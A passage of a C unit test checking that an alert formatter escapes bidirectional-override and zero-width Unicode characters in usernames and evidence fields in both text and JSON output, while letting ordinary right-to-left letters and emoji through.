    { "\xe2\x80\xa9", "\\xe2\\x80\\xa9", "\\u2029" },      /* paragraph separator */
    { "\xe2\x80\xae", "\\xe2\\x80\\xae", "\\u202e" },      /* right-to-left override */
    { "\xe2\x80\xaa", "\\xe2\\x80\\xaa", "\\u202a" },      /* left-to-right embedding */
    { "\xe2\x81\xa6", "\\xe2\\x81\\xa6", "\\u2066" },      /* left-to-right isolate */
    { "\xe2\x81\xa9", "\\xe2\\x81\\xa9", "\\u2069" },      /* pop directional isolate */
    { "\xe2\x80\x8f", "\\xe2\\x80\\x8f", "\\u200f" },      /* right-to-left mark */
    { "\xd8\x9c", "\\xd8\\x9c", "\\u061c" },               /* arabic letter mark */
    { "\xe2\x80\x8b", "\\xe2\\x80\\x8b", "\\u200b" },      /* zero-width space */
    { "\xe2\x80\x8d", "\\xe2\\x80\\x8d", "\\u200d" },      /* zero-width joiner */
    { "\xef\xbb\xbf", "\\xef\\xbb\\xbf", "\\ufeff" },      /* zero-width no-break space */
};

Test(alert, bidi_zero_width_c1_and_separators_are_escaped)
{
    for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
        char user[64], want[64];
        snprintf(user, sizeof(user), "eve%sadmin", hostile[i].utf8);
        struct alert a = sample();
        a.entity.user = span_cstr(user);
        a.evidence[0] = span_cstr(user);
        const char *t = text_of(&a, false);
        cr_assert_null(strstr(t, hostile[i].utf8), "raw U+%zu in text", i);
        snprintf(want, sizeof(want), "user=eve%sadmin", hostile[i].text);
        cr_assert(strstr(t, want) != NULL, "text: %s", t);
        snprintf(want, sizeof(want), "| eve%sadmin", hostile[i].text);
        cr_assert(strstr(t, want) != NULL, "text evidence: %s", t);
        const char *j = json_of(&a);
        cr_assert_null(strstr(j, hostile[i].utf8), "raw in json");
        snprintf(want, sizeof(want), "\"user\":\"eve%sadmin\"", hostile[i].json);
        cr_assert(strstr(j, want) != NULL, "json: %s", j);
    }
    /* what is only text passes: letters of right-to-left scripts, emoji */
    struct alert a = sample();
    a.entity.user = SPAN_LIT("\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xf0\x9f\x94\x91");
    cr_assert(strstr(text_of(&a, false), "user=\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xf0\x9f\x94\x91") != NULL);
    cr_assert(strstr(json_of(&a), "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d\xf0\x9f\x94\x91") != NULL);
}
